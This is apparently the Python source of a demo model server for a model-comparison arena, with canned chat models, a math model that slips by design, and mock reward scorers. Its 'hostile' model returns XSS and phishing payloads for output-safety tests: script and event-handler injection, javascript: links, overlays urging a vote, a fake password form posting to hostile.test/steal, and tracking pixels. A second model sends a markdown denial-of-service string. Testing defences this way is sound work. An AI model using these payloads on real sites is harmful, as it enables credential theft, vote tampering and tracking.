"""A demo model server speaking the OpenAI chat-completions protocol, and vLLM's reward APIs.

These are not language models: canned, deterministic answers, so that the arena,
its tests and load tests run the real client code on a machine with no GPU.
Each model behaves distinctly (terse, verbose markdown, one that names itself,
two that reason: one in the `reasoning` field, one in `<think>` tags). Two more are
attackers (`hostile`, `hostile-long`), for the output-safety tests only.

For the test-time-compute strategies (issue 7) there are three more kinds:

- `math` solves a prompt in steps separated by blank lines, ending with `\\boxed{answer}`, and
  samples: with temperature 0 it is deterministic and right; above 0 a growing share of its
  answers carry an arithmetic slip in one step (35 % at temperature 1, vLLM's default when a
  request names none). A request's `seed` makes its sample reproducible; without one, each
  request draws afresh.
- `reward` (one class) and `reward-binary` (two classes, [bad, good]) are outcome reward models
  at vLLM's `/classify` and `/pooling`: an answer whose boxed value is the true one scores
  about 0.9, a wrong one about 0.2, an answer with no box 0.4 to 0.6 by its length.
- `prm` is a process reward model at `/pooling` in Qwen2.5-Math-PRM's shape: one
  [p_negative, p_positive] row per `<extra_0>` step tag; a step whose arithmetic is wrong
  scores below 0.1, the steps after it below 0.5, sound ones above 0.8.

`math`, `reasoner` and `thinker` honour `reasoning_effort` (none … high: no, short, longer
reasoning); every model honours vLLM's `thinking_token_budget`, which caps its reasoning tokens.
Reward scores depend on the text alone: small hash-based variations keep equally good answers
apart.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import random
import re
import time
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from decimal import Decimal
from fractions import Fraction
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

BANNER = "Arena DEMO model server: canned answers, not real language models"
OWNER = "arena-demo"

_TOPICS = (
    "the question",
    "the trade-offs",
    "the main idea",
    "the practical side",
    "the details",
)
_OPENERS = (
    "Good question.",
    "Here is the short version.",
    "In brief:",
    "Put simply:",
    "Sure.",
)
_FACTS = (
    "it depends mostly on the constraints you care about",
    "the simplest approach usually works best at first",
    "measuring before optimising saves a lot of time",
    "there are two common ways to look at it",
    "small, testable steps make this easier",
    "the answer changes with scale",
    "clear names and short functions help more than clever tricks",
)


@dataclass(frozen=True)
class Answer:
    content: str
    reasoning: str = ""
    reasoning_in_tags: bool = False


def _rng(model: str, messages: list[dict[str, Any]]) -> random.Random:
    text = json.dumps([model, messages], sort_keys=True)
    return random.Random(hashlib.sha256(text.encode()).digest())


def _subject(messages: list[dict[str, Any]]) -> str:
    last = next((m for m in reversed(messages) if m.get("role") == "user"), None)
    words = re.findall(r"[A-Za-z0-9']+", str(last.get("content", "")) if last else "")
    return " ".join(words[:8]) or "your message"


def terse(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    return Answer(f"{rng.choice(_OPENERS)} On “{_subject(messages)}”: {rng.choice(_FACTS)}.")


def verbose(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    subject = _subject(messages)
    facts = rng.sample(_FACTS, 4)
    lines = [
        f"## Overview of “{subject}”",
        "",
        f"Let me walk through **{rng.choice(_TOPICS)}** step by step.",
        "",
        "### Key points",
        "",
        *(f"- **Point {i + 1}:** {fact}." for i, fact in enumerate(facts[:3])),
        "",
        "### Steps",
        "",
        "1. Start from what you know.",
        f"2. Check that {facts[3]}.",
        "3. Iterate and measure.",
        "",
        "**In summary:** " + rng.choice(_FACTS) + ".",
    ]
    return Answer("\n".join(lines))


def chatty(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    # Names itself now and then, so that leak handling has something to catch.
    body = f"{rng.choice(_OPENERS)} About “{_subject(messages)}”, {rng.choice(_FACTS)}."
    if rng.random() < 0.4:
        body = f"As demo-chatty, a model made by Arena Demo Lab, I'd say: {body}"
    return Answer(body + " Happy to help further!")


# reasoning_effort, as OpenAI and vLLM name its levels, to how much a demo model reasons.
EFFORTS = {"none": 0, "minimal": 1, "low": 1, "medium": 2, "high": 3, "xhigh": 3}
_DEFAULT_EFFORT = 2


@dataclass(frozen=True)
class Sampling:
    """The request's sampling parameters, for the models that honour them."""

    model: str = ""
    temperature: float = 1.0  # vLLM's default when a request names none
    seed: int | None = None
    effort: str | None = None  # reasoning_effort; None: medium

    @property
    def level(self) -> int:
        return EFFORTS.get(self.effort or "", _DEFAULT_EFFORT)

    def rng(self, messages: list[dict[str, Any]]) -> random.Random:
        """Greedy (temperature 0): the same for the same messages. Sampled: reproducible with a
        seed (same seed, messages and temperature), fresh randomness without one."""
        if self.temperature <= 0:
            return _rng(self.model, messages)
        if self.seed is None:
            return random.Random()
        text = json.dumps([self.model, messages, self.seed, self.temperature], sort_keys=True)
        return random.Random(hashlib.sha256(text.encode()).digest())


class Sampled:
    """A demo model that reads the request's sampling parameters. Called as the other models
    are, with the messages and their random generator alone, it answers with the defaults."""

    def __init__(
        self, name: str, fn: Callable[[list[dict[str, Any]], random.Random, Sampling], Answer]
    ) -> None:
        self.name = name
        self.fn = fn
        self.__doc__ = fn.__doc__

    def __call__(self, messages: list[dict[str, Any]], rng: random.Random) -> Answer:
        return self.fn(messages, rng, Sampling(model=self.name))

    def sample(
        self, messages: list[dict[str, Any]], rng: random.Random, sampling: Sampling
    ) -> Answer:
        return self.fn(messages, rng, sampling)


def _reasoning(messages: list[dict[str, Any]], rng: random.Random, level: int = 2) -> str:
    subject = _subject(messages)
    steps = [
        f"The user asks about “{subject}”.",
        "Let me think about what they actually need.",
        f"First, {rng.choice(_FACTS)}.",
        f"Second, {rng.choice(_FACTS)}.",
        "Are there edge cases? A few, but the main line holds.",
        "I should answer clearly and briefly.",
    ]
    if level <= 0:
        return ""
    if level == 1:
        steps = [steps[0], steps[-1]]
    elif level >= 3:
        steps[-1:-1] = [
            "Let me double-check each point against the question.",
            "Could the opposite hold? Only under unusual constraints, worth a word of caution.",
            "Is there a simpler way to say it? Yes: lead with the main point.",
            "Checking once more, the answer stays the same.",
        ]
    return " ".join(steps)


def _reasoner(messages: list[dict[str, Any]], rng: random.Random, sampling: Sampling) -> Answer:
    answer = f"After thinking it over: {rng.choice(_FACTS)}, and {rng.choice(_FACTS)}."
    return Answer(answer, reasoning=_reasoning(messages, rng, sampling.level))


def _thinker(messages: list[dict[str, Any]], rng: random.Random, sampling: Sampling) -> Answer:
    # DeepSeek-R1 style: the chat template opened <think>, so only </think> is sent.
    answer = f"Conclusion: {rng.choice(_FACTS)}."
    reasoning = _reasoning(messages, rng, sampling.level)
    return Answer(answer, reasoning=reasoning, reasoning_in_tags=True)


reasoner = Sampled("reasoner", _reasoner)
thinker = Sampled("thinker", _thinker)


# -- math: worked solutions that slip now and then -----------------------------------------------

# Simple arithmetic in a prompt: numbers joined by + - * / × ÷ (or x between numbers).
_ARITHMETIC = re.compile(
    r"(?<![\d.])\d+(?:\.\d+)?(?:\s*(?:[-+*/×÷]|[xX](?=\s*\d))\s*\d+(?:\.\d+)?)+"
)
_ARITHMETIC_TOKEN = re.compile(r"\d+(?:\.\d+)?|[-+*/×÷xX]")
_OPERATOR = {"+": "+", "-": "-", "*": "×", "x": "×", "X": "×", "×": "×", "/": "÷", "÷": "÷"}
_NUMBER = r"-?\d+(?:\.\d+)?(?:/\d+)?"
# An equation a step states: "17 × 20 = 340", "5 - -3 = 8", "3/4 + 1 = 7/4".
_EQUATION = re.compile(
    rf"(?<![\w./])({_NUMBER})\s*([-+×÷])\s*({_NUMBER})\s*=\s*({_NUMBER})(?![\w/]|\.\d)"
)
_BOX = re.compile(r"\\boxed\{([^{}]*)\}")
_SLIPS = (-10, -2, -1, 1, 2, 10)  # how far off a slipped step's result is
_FIRST = ("First,", "To start,", "Begin with the first part:")
_NEXT = ("Next,", "Then", "After that,", "Now")
_FINAL = ("So the answer is", "Therefore the answer is", "The final answer is")


def _fmt(x: Fraction) -> str:
    """A whole number, a short exact decimal, or p/q."""
    if x.denominator == 1:
        return str(x.numerator)
    d = x.denominator
    for p in (2, 5):
        while d % p == 0:
            d //= p
    if d == 1:
        text = format(Decimal(x.numerator) / Decimal(x.denominator), "f")
        if len(text.partition(".")[2]) <= 6:
            return text
    return f"{x.numerator}/{x.denominator}"


def _value(text: str) -> Fraction | None:
    """A number as an answer states it ("391", "0.75", "3/4", "1,024", "$12"), else None."""
    cleaned = re.sub(r"[\s,$]", "", text).rstrip(".")
    try:
        return Fraction(cleaned)
    except (ValueError, ZeroDivisionError):
        return None


def _apply(a: Fraction, op: str, b: Fraction) -> Fraction:
    if op == "+":
        return a + b
    if op == "-":
        return a - b
    if op == "×":
        return a * b
    return a / b


@dataclass
class _Work:
    """One pass through a problem's operations; the one numbered `slip_at` comes out `delta`
    off, and the operations after it carry the error on."""

    slip_at: int | None = None
    delta: int = 0
    steps: list[tuple[str, str]] = field(default_factory=list)  # (lead-in, equation)
    result: Fraction = Fraction(0)

    def op(self, a: Fraction, op: str, b: Fraction, lead: str = "") -> Fraction:
        result = _apply(a, op, b)
        if len(self.steps) == self.slip_at:
            result += self.delta
        self.steps.append((lead, f"{_fmt(a)} {op} {_fmt(b)} = {_fmt(result)}"))
        return result

    def binary(self, a: Fraction, op: str, b: Fraction) -> Fraction:
        """a op b; a whole right operand of ×, + or - above 10 split at its last digit."""
        whole = a.denominator == 1 and b.denominator == 1 and a > 0
        if op != "÷" and whole and b > 10 and b % 10:
            low = b % 10
            high = b - low
            lead = f"split {_fmt(b)} as {_fmt(high)} + {_fmt(low)}:"
            if op == "×":
                x = self.op(a, "×", high, lead)
                y = self.op(a, "×", low)
                return self.op(x, "+", y)
            return self.op(self.op(a, op, high, lead), op, low)
        return self.op(a, op, b)


@dataclass(frozen=True)
class MathProblem:
    """What the math model solves for a prompt, and the reward models check against."""

    statement: str  # "17 × 23"
    setup: str  # the solution's first step
    numbers: tuple[Fraction, ...]
    ops: tuple[str, ...]

    def work(self, slip_at: int | None = None, delta: int = 0) -> _Work:
        """Multiplication and division first, then addition and subtraction, left to right."""
        w = _Work(slip_at, delta)
        values, pending = [self.numbers[0]], []
        for op, n in zip(self.ops, self.numbers[1:], strict=True):
            if op in "×÷":
                values[-1] = w.binary(values[-1], op, n)
            else:
                pending.append(op)
                values.append(n)
        result = values[0]
        for op, v in zip(pending, values[1:], strict=True):
            result = w.binary(result, op, v)
        w.result = result
        return w

    @property
    def answer(self) -> Fraction:
        return self.work().result


def _question(messages: list[dict[str, Any]]) -> str:
    last = next((m for m in reversed(messages) if m.get("role") == "user"), None)
    return str(last.get("content", "")) if last else ""


def math_problem(prompt: str) -> MathProblem:
    """The arithmetic in `prompt` ("What is 17 * 23?"); else a problem, and so a "true" answer,
    derived from the prompt's text alone."""
    found = _ARITHMETIC.search(prompt)
    if found:
        tokens = _ARITHMETIC_TOKEN.findall(found.group())
        numbers = tuple(Fraction(t) for t in tokens[::2])
        ops = tuple(_OPERATOR[t] for t in tokens[1::2])
        if not any(op == "÷" and n == 0 for op, n in zip(ops, numbers[1:], strict=True)):
            parts = [_fmt(numbers[0])]
            for op, n in zip(ops, numbers[1:], strict=True):
                parts += [op, _fmt(n)]
            statement = " ".join(parts)
            return MathProblem(statement, f"We need to evaluate {statement}.", numbers, ops)
    h = int.from_bytes(hashlib.sha256(" ".join(prompt.split()).encode()).digest()[:8], "big")
    total = 100 + h % 900
    size = 12 + (h >> 16) % 13
    groups, rest = divmod(total, size)
    subject = " ".join(re.findall(r"[A-Za-z0-9']+", prompt)[:8]) or "the question"
    setup = f"Reading “{subject}” as a count: {groups} groups of {size}, and {rest} more."
    if rest:
        numbers = (Fraction(groups), Fraction(size), Fraction(rest))
        return MathProblem(f"{groups} × {size} + {rest}", setup, numbers, ("×", "+"))
    return MathProblem(f"{groups} × {size}", setup, (Fraction(groups), Fraction(size)), ("×",))


def slip_chance(temperature: float) -> float:
    """The share of the math model's samples with a slip: none when greedy, 35 % at 1."""
    return 0.0 if temperature <= 0 else min(0.9, 0.35 * temperature**1.5)


def _math_reasoning(problem: MathProblem, work: _Work, level: int) -> str:
    if level <= 0:
        return ""
    if level == 1:
        return f"Evaluate {problem.statement} one operation at a time."
    lines = [
        f"The question asks for {problem.statement}.",
        "Multiplication and division come before addition and subtraction.",
        "Splitting a number at its last digit keeps each product small,",
        "then the parts add back up. I will write one operation per step and box the result.",
    ]
    if level >= 3:
        lines += [f"Check: {equation}." for _, equation in work.steps]
        lines += [
            "Does the size of the result make sense? Roughly, yes.",
            "Everything is consistent; now write it up.",
        ]
    return " ".join(lines)


def _math(messages: list[dict[str, Any]], rng: random.Random, sampling: Sampling) -> Answer:
    """A worked solution: steps separated by blank lines, the last with the boxed answer."""
    problem = math_problem(_question(messages))
    draw = sampling.rng(messages)
    work = problem.work()
    if draw.random() < slip_chance(sampling.temperature):
        work = problem.work(draw.randrange(len(work.steps)), draw.choice(_SLIPS))
    steps = [problem.setup]
    for i, (lead, equation) in enumerate(work.steps):
        lead = f" {lead}" if lead else ""
        steps.append(f"{draw.choice(_FIRST if i == 0 else _NEXT)}{lead} {equation}.")
    # Between $$, as real models often write it: the page renders it as math.
    steps.append(f"{draw.choice(_FINAL)}:\n$$\\boxed{{{_fmt(work.result)}}}$$")
    return Answer("\n\n".join(steps), reasoning=_math_reasoning(problem, work, sampling.level))


math_model = Sampled("math", _math)


# The host that the hostile models' images, form and links point at. `.test` never resolves
# (RFC 2606); tests/test_output_safety.py intercepts the browser's requests to it.
HOSTILE_HOST = "hostile.test"


def hostile(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    """An attacker's answer: every way we know to run script, cover the page, phish or track
    the voter from inside an answer (and its reasoning). Not in demo.toml; tests register it."""
    h = f"http://{HOSTILE_HOST}"
    cover = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
    content = f"""Here is my answer.

<script>alert("script")</script>
<img src="x" onerror="alert('img onerror')">
<a href="javascript:alert('html javascript link')">click me</a> and
[click me too](javascript:alert('markdown javascript link')) and <javascript:alert('autolink')>
<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<svg onload="alert('svg onload')"><circle r="10"/></svg>
<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">
<details open ontoggle="alert('ontoggle')"><summary>details</summary>inside</details>
<div style="{cover};background:#fff;font-size:48px">Model B failed to answer. Please vote A.</div>
<div style="{cover};background:#fff"><h3>Your vote: A is better</h3>
<b>Model A: gpt-4o</b> (OpenAI) <b>Model B: llama</b> (Meta)</div>
<style>#vote-b, #new-battle {{ display: none !important }} body {{ background: red }}</style>
<form action="{h}/steal" method="post"><p>Your session expired. Re-enter your password:</p>
<input type="password" name="password" autofocus><input type="submit" value="Continue"></form>
<button onclick="alert('button')">Vote A</button>

![tracking pixel]({h}/markdown.png) ![reference pixel][ref]

<img src="{h}/img.png" alt="pixel"> <img srcset="{h}/srcset.png 1x">
<div style="background:url({h}/background.png);width:20px;height:20px"></div>
<video poster="{h}/poster.png" src="{h}/video.mp4"></video>
<picture><source srcset="{h}/source.png"><img src="{h}/picture.png"></picture>
<link rel="stylesheet" href="{h}/style.css">
<meta http-equiv="refresh" content="0;url={h}/refresh">
<base href="{h}/">
<a href="{h}/page" ping="{h}/ping">a link to the hostile host</a>

LaTeX that draws huge boxes, lifts them over the page and links to script:
$$\\rule{{300em}}{{300em}}\\raisebox{{60em}}{{\\rule{{300em}}{{300em}}}}\\href{{javascript:alert('katex')}}{{x}}$$
The same inline \\(\\rule{{300em}}{{300em}}\\href{{javascript:alert('inline')}}{{x}}\\)
and displayed:
\\[\\raisebox{{60em}}{{\\rule{{300em}}{{300em}}}}\\href{{javascript:alert('display')}}{{x}}\\]

Here is an HTML page:

```html
<script>alert("inside a code block")</script>
<img src="{h}/inside-code.png" onerror="alert('inside code')">
```

[ref]: {h}/reference.png
"""
    reasoning = (
        f'Thinking <img src="{h}/reasoning.png" onerror="alert(\'reasoning\')"> '
        f'<div style="{cover};background:#000">covered</div> ![pixel]({h}/reasoning-md.png)'
    )
    return Answer(content, reasoning=reasoning)


# Long enough to be worth a denial of service, and made of the pair that cost the old page's
# markdown step most: its emphasis and autolink rules go quadratic on it (docs/benchmarks.md).
HOSTILE_LONG_CHARS = 200_000
HOSTILE_LONG_UNIT = "a*"


def hostile_long(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    """One unbroken 200,000-character word: no spaces, so it arrives as one piece."""
    return Answer(HOSTILE_LONG_UNIT * (HOSTILE_LONG_CHARS // len(HOSTILE_LONG_UNIT)))


MODELS: dict[str, Callable[[list[dict[str, Any]], random.Random], Answer]] = {
    "terse": terse,
    "verbose": verbose,
    "chatty": chatty,
    "reasoner": reasoner,
    "thinker": thinker,
    "math": math_model,
    # Attackers, for tests/test_output_safety.py and bench/render.py only (not in demo.toml).
    "hostile": hostile,
    "hostile-long": hostile_long,
}


# -- reward models: vLLM's /classify and /pooling ------------------------------------------------

STEP_TAG = "<extra_0>"  # Qwen2.5-Math-PRM's step separator


@dataclass(frozen=True)
class RewardModel:
    task: str  # vLLM's pooling task: "classify" (a sequence classifier) or "token_classify"
    classes: int  # per sequence, or per step


REWARD_MODELS: dict[str, RewardModel] = {
    "reward": RewardModel("classify", 1),  # one class, as Skywork-Reward-V2
    "reward-binary": RewardModel("classify", 2),  # [bad, good]
    "prm": RewardModel("token_classify", 2),  # Qwen2.5-Math-PRM: [p_negative, p_positive] a step
}


def _jitter(*parts: object) -> float:
    """A number in [0, 1) from the text alone: ties between equally good answers broken."""
    digest = hashlib.sha256(json.dumps(parts, default=str).encode()).digest()
    return int.from_bytes(digest[:8], "big") / 2**64


def _boxed(text: str) -> str | None:
    found = _BOX.findall(text)
    return found[-1] if found else None


def reward_score(question: str | None, answer: str) -> float:
    """The outcome reward model's score in (0, 1): a boxed value equal to the question's true
    answer 0.82-0.94, any other boxed value 0.12-0.24, an answer with no box (or no question
    to check it against) 0.4-0.6 by its length, an empty one below 0.05."""
    j = _jitter("reward", question, answer)
    box = _boxed(answer)
    if box is not None and question is not None:
        if _value(box) == math_problem(question).answer:
            return 0.82 + 0.12 * j
        return 0.12 + 0.12 * j
    words = len(answer.split())
    if not words:
        return 0.02 + 0.03 * j
    return 0.4 + 0.15 * min(1.0, words / 80) + 0.05 * j


def _equations_hold(step: str) -> bool:
    for a, op, b, c in _EQUATION.findall(step):
        try:
            if _apply(Fraction(a), op, Fraction(b)) != Fraction(c):
                return False
        except (ValueError, ZeroDivisionError):
            return False
    return True


def prm_scores(question: str | None, steps: list[str]) -> list[float]:
    """The process reward model's p_positive for each step: below 0.1 for a step whose stated
    arithmetic is wrong (the slip), 0.35-0.5 for every step after one, 0.2-0.3 for a boxed
    answer other than the question's, 0.8-0.95 for a sound step."""
    truth = math_problem(question).answer if question is not None else None
    scores: list[float] = []
    slipped = False
    for i, step in enumerate(steps):
        j = _jitter("prm", question, i, step)
        box = _boxed(step)
        if not _equations_hold(step):
            slipped = True
            scores.append(0.03 + 0.07 * j)
        elif slipped:
            scores.append(0.35 + 0.15 * j)
        elif box is not None and truth is not None and _value(box) != truth:
            scores.append(0.2 + 0.1 * j)
        else:
            scores.append(0.8 + 0.15 * j)
    return scores


def _reward_inputs(body: dict[str, Any]) -> list[tuple[str | None, str, int]] | str:
    """Each text to score as (question, answer, prompt tokens), from a chat-like request (the
    answer: the last message, if the assistant's; the question: the last user message before
    it) or a completion-like one (`input`: a string or strings, no question); else what is
    wrong with the request."""
    if ("messages" in body) == ("input" in body):
        return "give either messages or input"
    if "input" in body:
        raw = body["input"]
        texts = [raw] if isinstance(raw, str) else raw
        if not isinstance(texts, list) or not texts or not all(isinstance(t, str) for t in texts):
            return "input must be a string or a non-empty list of strings"
        return [(None, t, _count(t)) for t in texts]
    messages = body["messages"]
    if not isinstance(messages, list) or not messages:
        return "messages must be a non-empty list"
    for m in messages:
        if not isinstance(m, dict) or m.get("role") not in ("system", "user", "assistant"):
            return "each message needs a role of system, user or assistant"
        if not isinstance(m.get("content"), str):
            return "each message needs string content"
    tokens = sum(_count(m["content"]) + 3 for m in messages)  # a chat template's few tokens
    answer = messages[-1]["content"] if messages[-1]["role"] == "assistant" else ""
    before = messages[:-1] if messages[-1]["role"] == "assistant" else messages
    question = _question(before) if any(m["role"] == "user" for m in before) else None
    return [(question, answer, tokens)]


def _count(text: str) -> int:
    """Tokens of a text as the demo counts them; a step tag is one."""
    return len(_tokens(text.replace(STEP_TAG, f" {STEP_TAG} ")))


def _tokens(text: str) -> list[str]:
    """Whitespace-led words: joining them gives back the text, minus trailing space."""
    return re.findall(r"\s*\S+", text)


def _error(status: int, message: str, kind: str = "invalid_request_error") -> JSONResponse:
    return JSONResponse({"error": {"message": message, "type": kind}}, status_code=status)


def _not_int(value: Any) -> bool:
    return isinstance(value, bool) or not isinstance(value, int)


def _sampling(model: str, body: dict[str, Any]) -> Sampling | str:
    """The request's sampling parameters; else what is wrong with them."""
    temperature = body.get("temperature", 1.0)
    if temperature is None:
        temperature = 1.0
    if isinstance(temperature, bool) or not isinstance(temperature, int | float):
        return "temperature must be a number"
    if temperature < 0:
        return "temperature must not be negative"
    seed = body.get("seed")
    if seed is not None and _not_int(seed):
        return "seed must be an integer"
    effort = body.get("reasoning_effort")
    if effort is not None and effort not in EFFORTS:
        return f"reasoning_effort must be one of {', '.join(EFFORTS)}"
    return Sampling(model=model, temperature=float(temperature), seed=seed, effort=effort)


def create_demo_app(latency: float = 0.2, tokens_per_second: float = 60.0) -> Starlette:
    """`latency`: seconds before the first token; `tokens_per_second`: streaming speed."""
    delay = 1.0 / tokens_per_second if tokens_per_second > 0 else 0.0

    async def list_models(request: Request) -> Response:
        created = 1_700_000_000
        data = [
            {"id": m, "object": "model", "created": created, "owned_by": OWNER}
            for m in [*MODELS, *REWARD_MODELS]
        ]
        return JSONResponse({"object": "list", "data": data})

    async def json_body(request: Request) -> dict[str, Any] | Response:
        try:
            body = await request.json()
        except (json.JSONDecodeError, UnicodeDecodeError):
            return _error(400, "request body is not valid JSON")
        if not isinstance(body, dict):
            return _error(400, "request body must be a JSON object")
        return body

    async def chat(request: Request) -> Response:
        body = await json_body(request)
        if isinstance(body, Response):
            return body
        model = body.get("model")
        if model in REWARD_MODELS:
            return _error(
                400, f"model {model!r} is a pooling model: it does not support the Chat API"
            )
        if model not in MODELS:
            return _error(404, f"model {model!r} does not exist", "not_found_error")
        messages = body.get("messages")
        if not isinstance(messages, list) or not messages:
            return _error(400, "messages must be a non-empty list")
        for m in messages:
            if not isinstance(m, dict) or m.get("role") not in ("system", "user", "assistant"):
                return _error(400, "each message needs a role of system, user or assistant")
            if not isinstance(m.get("content"), str):
                return _error(400, "each message needs string content")
        max_tokens = body.get("max_tokens")
        if max_tokens is not None and (not isinstance(max_tokens, int) or max_tokens < 1):
            return _error(400, "max_tokens must be a positive integer")
        sampling = _sampling(model, body)
        if isinstance(sampling, str):
            return _error(400, sampling)
        budget = body.get("thinking_token_budget")
        if budget is not None and (_not_int(budget) or budget < 0):
            return _error(400, "thinking_token_budget must be a non-negative integer")
        fn = MODELS[model]
        if isinstance(fn, Sampled):
            answer = fn.sample(messages, _rng(model, messages), sampling)
        else:
            answer = fn(messages, _rng(model, messages))
        reasoning = _tokens(answer.reasoning)
        if budget is not None:  # vLLM ends the reasoning there and lets the model answer
            reasoning = reasoning[:budget]
        content = _tokens(answer.content)
        finish = "stop"
        if max_tokens is not None and len(reasoning) + len(content) > max_tokens:
            finish = "length"
            content = content[: max(0, max_tokens - len(reasoning))]
            reasoning = reasoning[:max_tokens]
        prompt_tokens = sum(len(_tokens(m["content"])) for m in messages)
        usage = {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": len(reasoning) + len(content),
            "total_tokens": prompt_tokens + len(reasoning) + len(content),
            "completion_tokens_details": {"reasoning_tokens": len(reasoning)},
        }
        ident = f"chatcmpl-{uuid.uuid4().hex[:24]}"
        created = int(time.time())
        if answer.reasoning_in_tags:
            # Emitted as content; the closing tag is a token of its own.
            pieces = [("content", t) for t in reasoning] + [("content", "</think>\n\n")]
        else:
            pieces = [("reasoning", t) for t in reasoning]
        pieces += [("content", t) for t in content]

        if not body.get("stream"):
            await asyncio.sleep(latency + delay * len(pieces))
            message: dict[str, Any] = {
                "role": "assistant",
                "content": "".join(t for kind, t in pieces if kind == "content"),
            }
            if reasoning and not answer.reasoning_in_tags:
                message["reasoning"] = "".join(reasoning)
            return JSONResponse(
                {
                    "id": ident,
                    "object": "chat.completion",
                    "created": created,
                    "model": model,
                    "choices": [{"index": 0, "message": message, "finish_reason": finish}],
                    "usage": usage,
                }
            )

        include_usage = bool((body.get("stream_options") or {}).get("include_usage"))

        def chunk(**fields: Any) -> str:
            body = {"id": ident, "object": "chat.completion.chunk", "created": created}
            return "data: " + json.dumps({**body, "model": model, **fields}) + "\n\n"

        def event(delta: dict[str, Any], finish_reason: str | None = None) -> str:
            return chunk(choices=[{"index": 0, "delta": delta, "finish_reason": finish_reason}])

        async def stream() -> AsyncIterator[str]:
            yield event({"role": "assistant", "content": ""})
            await asyncio.sleep(latency)
            for kind, token in pieces:
                yield event({kind: token})
                if delay:
                    await asyncio.sleep(delay)
            yield event({}, finish)
            if include_usage:
                yield chunk(choices=[], usage=usage)
            yield "data: [DONE]\n\n"

        return StreamingResponse(stream(), media_type="text/event-stream")

    async def classify(request: Request) -> Response:
        return await reward(request, "classify")

    async def pooling(request: Request) -> Response:
        return await reward(request, "pooling")

    async def reward(request: Request, api: str) -> Response:
        """vLLM's Classification API (`/classify`) or Pooling API (`/pooling`), the shapes of
        vllm/entrypoints/pooling/{classify,pooling}/protocol.py (lately under vllm/frontend/)."""
        body = await json_body(request)
        if isinstance(body, Response):
            return body
        model = body.get("model")
        name = "Classification API" if api == "classify" else "Pooling API"
        if model in MODELS:
            return _error(400, f"model {model!r} is a chat model: it does not support the {name}")
        if model not in REWARD_MODELS:
            return _error(404, f"model {model!r} does not exist", "not_found_error")
        spec = REWARD_MODELS[model]
        if api == "classify" and spec.task != "classify":
            return _error(400, f"model {model!r} does not support the {name}; use /pooling")
        task = body.get("task")
        if api == "pooling" and task is not None and task != spec.task:
            return _error(400, f"unsupported task {task!r}; model {model!r} supports {spec.task!r}")
        items = _reward_inputs(body)
        if isinstance(items, str):
            return _error(400, items)
        await asyncio.sleep(latency)
        data: list[dict[str, Any]] = []
        for i, (question, text, _) in enumerate(items):
            if spec.task == "token_classify":
                steps = text.split(STEP_TAG)[:-1]  # a score at each step tag
                rows = [[round(1 - p, 6), round(p, 6)] for p in prm_scores(question, steps)]
                data.append({"index": i, "object": "pooling", "data": rows})
                continue
            score = round(reward_score(question, text), 6)
            probs = [score] if spec.classes == 1 else [round(1 - score, 6), score]
            if api == "classify":
                label = "LABEL_0" if spec.classes == 1 or score < 0.5 else "LABEL_1"
                item = {"index": i, "label": label, "probs": probs, "num_classes": len(probs)}
                data.append(item)
            else:
                data.append({"index": i, "object": "pooling", "data": probs})
        tokens = sum(t for _, _, t in items)
        prefix = "classify" if api == "classify" else "pool"
        return JSONResponse(
            {
                "id": f"{prefix}-{uuid.uuid4().hex}",
                "object": "list",
                "created": int(time.time()),
                "model": model,
                "data": data,
                "usage": {
                    "prompt_tokens": tokens,
                    "total_tokens": tokens,
                    "completion_tokens": 0,
                    "prompt_tokens_details": None,
                },
            }
        )

    async def health(request: Request) -> Response:
        # The process id lets `arena run` name a demo server it finds but did not start.
        return JSONResponse({"status": "ok", "demo": True, "pid": os.getpid()})

    return Starlette(
        routes=[
            Route("/v1/models", list_models, methods=["GET"]),
            Route("/v1/chat/completions", chat, methods=["POST"]),
            # vLLM serves its pooling APIs at the server root, not under /v1.
            Route("/classify", classify, methods=["POST"]),
            Route("/pooling", pooling, methods=["POST"]),
            Route("/health", health, methods=["GET"]),
        ]
    )
